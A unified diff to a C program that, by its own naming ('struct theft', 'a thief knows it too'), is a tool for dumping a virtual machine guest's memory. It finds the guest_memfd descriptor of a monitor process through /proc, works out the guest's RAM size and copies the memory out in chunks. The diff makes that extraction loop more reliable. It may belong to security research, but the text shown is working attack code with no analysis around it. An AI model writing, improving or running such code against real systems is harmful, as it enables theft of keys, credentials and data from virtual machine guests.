@@ -12,6 +12,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -30,9 +31,8 @@
 #define PIECE	  0x10000u
 #define LENT_SIZE (AT_PIECE + PIECE)
 
-#define RAM	0x400000ul  /* VM_IMAGE of rpc/vm.h; a thief knows it too */
-#define RAM_END 0x1000000ul /* it ends before */
-#define TRIES	50
+#define RAM   0x400000ul /* VM_IMAGE of rpc/vm.h; a thief knows it too */
+#define TRIES 50
 
 #define PTE_PAGE  0x67u /* present, writable, ring 3, accessed, dirty */
 #define PTE_LARGE 0x80u
@@ -71,7 +71,7 @@ ask(const struct drive *d, int fd, unsigned long request, void *what, size_t len
 	return done;
 }
 
-/* The descriptor whose link begins so; -1: none. */
+/* The descriptor whose link has this in it; -1: none. */
 static int
 find(pid_t pid, const char *what)
 {
@@ -81,10 +81,36 @@ find(pid_t pid, const char *what)
 	for (int fd = 0; fd < 64; fd++) {
 		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
 		n = readlink(path, link, sizeof(link) - 1);
-		if (n > 0 && strncmp(link, what, strlen(what)) == 0)
+		link[n > 0 ? n : 0] = '\0';
+		if (strstr(link, what) != NULL)
 			return fd;
 	}
 	return -1;
+}
+
+/*
+ * How much memory the machine has: as much as is behind the descriptor of
+ * guest_memfd, else as the monitor's largest area. A touch behind its end would
+ * leave the machine in the middle of an instruction.
+ */
+static uint64_t
+ram_size(const struct theft *t)
+{
+	uint64_t size = 0;
+	struct stat st = { 0 };
+	char path[64];
+	int fd = find(t->pid, "[kvm-gmem]");
+
+	snprintf(path, sizeof(path), "/proc/%d/fd/%d", t->pid, fd);
+	if (fd >= 0 && stat(path, &st) == 0)
+		return (uint64_t)st.st_size;
+	for (size_t i = 0; i < t->areas; i++) {
+		const struct area *a = &t->area[i];
+
+		if (a->perms[1] == 'w' && a->perms[3] == 'p' && a->end - a->start > size)
+			size = a->end - a->start;
+	}
+	return size;
 }
 
 static void
@@ -141,17 +167,14 @@ static void
 copy_all(const struct drive *d, struct theft *t)
 {
 	static uint8_t piece[PIECE];
-	uint64_t at = RAM, len = PIECE;
+	uint64_t size = ram_size(t), done = 0, len = PIECE;
 
-	while (at < RAM_END && len >= THEFT_PAGE) {
-		if (copy(d, at, len)) {
-			get(d, AT_PIECE, piece, len);
-			theft_write(t, piece, len);
-			at += len;
-		} else {
-			/* The end of its memory is somewhere in there. */
-			len = len > THEFT_PAGE ? THEFT_PAGE : 0;
-		}
+	for (; done < size; done += len) {
+		len = size - done < PIECE ? size - done : PIECE;
+		if (!copy(d, RAM + done, len))
+			break;
+		get(d, AT_PIECE, piece, len);
+		theft_write(t, piece, len);
 	}
 }
 
